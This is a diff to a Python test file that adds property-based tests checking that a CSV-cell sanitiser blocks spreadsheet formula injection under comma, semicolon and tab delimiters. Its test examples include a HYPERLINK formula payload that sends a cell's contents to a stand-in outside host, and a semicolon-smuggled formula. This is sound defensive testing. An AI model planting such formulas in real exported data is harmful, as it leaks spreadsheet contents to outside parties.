@@ -1,5 +1,7 @@
 """Names from outside: what becomes of them as paths, on a screen and in a table."""
 
+import csv
+import io
 import os
 import pathlib
 import re
@@ -12,6 +14,7 @@ from primia_jax.core.names import (
     RESERVED_SITES,
     check_site_name,
     csv_cell,
+    csv_text,
     printable,
     safe_file_name,
     user_path,
@@ -126,8 +129,22 @@ def test_a_cell_is_no_formula(text):
     assert csv_cell(text).startswith(("'", "\\"))
 
 
+@given(st.text(alphabet="a=+-@;' \"\t,", max_size=12))
+@example('x;=HYPERLINK("http://example.org/?"&A1)')
+@example('x;"=1+1')
+def test_a_cell_is_no_formula_where_semicolons_or_tabs_separate(text):
+    """As spreadsheets of many languages read it; and the text can be had back."""
+    cell = csv_cell(text)
+    line = io.StringIO()
+    csv.writer(line).writerow(["first", cell])
+    for delimiter in ",;\t":
+        for row in csv.reader([line.getvalue()], delimiter=delimiter):
+            assert not any(part.lstrip().startswith(tuple("=+-@")) for part in row)
+    assert csv_text(cell) == printable(text)
+
+
 def test_other_cells_stay():
-    assert csv_cell("a=b, c.png") == "a=b, c.png"
+    assert csv_cell("a=b; c.png") == "a=b; c.png"
 
 
 def test_the_home_folder_is_expanded(monkeypatch, tmp_path):
